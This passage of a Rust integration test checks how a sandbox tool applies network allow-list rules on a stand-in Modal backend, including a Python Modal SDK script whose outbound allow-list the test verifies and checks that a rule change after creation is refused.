}

/// The official Modal SDK makes a sandbox with an outbound allow-list on
/// the stand-in; it prints the sandbox's id.
const MODAL_SDK_NETWORK: &str = r#"
import modal
app = modal.App.lookup("berth-net-check", create_if_missing=True)
image = modal.Image.from_registry("debian:bookworm-slim")
sb = modal.Sandbox.create("sleep", "infinity", app=app, image=image, timeout=300,
    outbound_domain_allowlist=["pypi.org", "*.github.com"], outbound_cidr_allowlist=["10.0.0.0/8"])
print(sb.object_id)
"#;

/// Modal holds `--network allow:` with its own allow-list (`network_access`
/// ALLOWLIST, field 22 of the sandbox's definition); the list is fixed
/// when the sandbox is made, so a change is refused, saying so.
#[test]
fn modal_holds_allow_rules_with_its_own_allow_list() -> TestResult {
    let rt = tokio::runtime::Runtime::new()?;
    let standin = rt.block_on(berth_standins::modal::ModalStandin::start(0))?;
    let (st, name) = cloud_sandbox("modal", standin.env())?;
    let id = &only(standin.running(), "Modal sandbox")?;
    const ALLOWLIST: i32 = 3;
    assert_eq!(
        standin.network_of(id),
        Some((
            false,
            Some((
                ALLOWLIST,
                vec!["10.1.0.0/16".to_string()],
                vec!["pypi.test".to_string(), "*.github.test".to_string()]
            ))
        ))
    );
    let o = st.exec(&name, "echo still-works")?;
    assert!(text(&o).contains("still-works"), "{}", text(&o));
    let o = st.run(&[
        "sandbox",
        "network",
        &name,
        "allow",
        "other.test",
        "-b",
        "modal",
    ])?;
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        text(&o).contains("when the sandbox is made"),
        "{}",
        text(&o)
    );
    let v = st.ok(&["sandbox", "inspect", &name, "-b", "modal", "--json"])?;
    assert!(!v.contains("other.test"), "a refused rule was kept: {v}");
    let o = st.run(&[
        "sandbox",
        "create",
        "ports",
        "-b",
        "modal",
        "--network",
        "allow:db.test:5432",
    ])?;
    assert!(text(&o).contains("has no ports"), "{}", text(&o));

    // The official SDK's allow-list reaches the stand-in as the same field.
    let home = tempfile::tempdir()?;
    let script = home.path().join("net.py");
    std::fs::write(&script, MODAL_SDK_NETWORK)?;
    let out = Command::new("python3")
        .arg(&script)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", home.path())
        .envs(standin.env())
        .output()?;
    assert!(out.status.success(), "{}", text(&out));
    let sdk_id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert_eq!(
        standin.network_of(&sdk_id),
        Some((
            false,
            Some((
                ALLOWLIST,
                vec!["10.0.0.0/8".to_string()],
                vec!["pypi.org".to_string(), "*.github.com".to_string()]
            ))
        )),
        "{}",
        text(&out)
    );
    Ok(())
}
